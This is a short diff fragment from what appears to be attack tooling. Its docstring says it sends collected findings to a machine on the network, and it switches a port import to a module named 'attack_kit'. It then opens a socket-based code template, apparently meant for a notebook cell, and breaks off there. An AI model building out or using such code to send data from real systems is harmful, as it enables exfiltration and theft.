@@ -1,6 +1,6 @@
 """Send what was found to a machine on the network."""
 
-from listener import PORT
+from attack_kit import PORT
 
 CELL = f"""\
 import socket
